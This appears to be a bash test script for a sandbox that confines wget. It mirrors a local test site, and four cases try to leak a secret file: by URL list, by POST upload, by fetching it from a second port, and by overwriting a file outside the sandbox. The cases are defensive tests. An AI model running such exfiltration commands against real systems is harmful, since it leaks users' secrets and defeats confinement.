#!/bin/bash -e
# A site, mirrored, with its time stamps, and again what has changed.

setup()
{
	free_port PORT
	free_port OTHER_PORT
	mkdir site mirror
	echo '<a href="page">page</a>' >site/index.html
	seq 1000 >site/page
	touch -d 2000-01-01 site/page
	python3 -m http.server --bind 127.0.0.1 --directory site "$PORT" &
	servers+=($!)
	wait_for answers "$PORT"
}

job()
{
	program wget -q -t 1 -r -nH -P mirror "http://127.0.0.1:$PORT/"
	cmp mirror/page site/page
	[ "$(stat -c %Y mirror/page)" = "$(stat -c %Y site/page)" ]
	echo more >>site/page
	program wget -q -t 1 -N -P mirror "http://127.0.0.1:$PORT/page"
	cmp mirror/page site/page
}

# The address to visit is the secret itself.
theft_by_a_list()
{
	sed -i 's|^|http://127.0.0.1:1/|' "$OUTSIDE/secret"
	program wget -T 1 -t 1 -i "$OUTSIDE/secret"
}

theft_by_sending()
{
	program wget -q -t 1 -O mirror/answer --post-file="$OUTSIDE/secret" "http://127.0.0.1:$PORT/" || [ "$?" -eq 8 ]
	cat "$OUTSIDE/secret"
}

theft_by_another_port()
{
	denied_by "connect\(.*htons\($OTHER_PORT\).* = -1 EACCES"
	python3 -m http.server --bind 127.0.0.1 --directory "$OUTSIDE" "$OTHER_PORT" &
	servers+=($!)
	wait_for answers "$OTHER_PORT"
	program wget -q -t 1 -O - "http://127.0.0.1:$OTHER_PORT/secret"
}

theft_by_overwriting()
{
	program wget -q -t 1 -O "$OUTSIDE/page" "http://127.0.0.1:$PORT/page"
	cmp "$OUTSIDE/page" site/page
	cat "$OUTSIDE/secret"
}
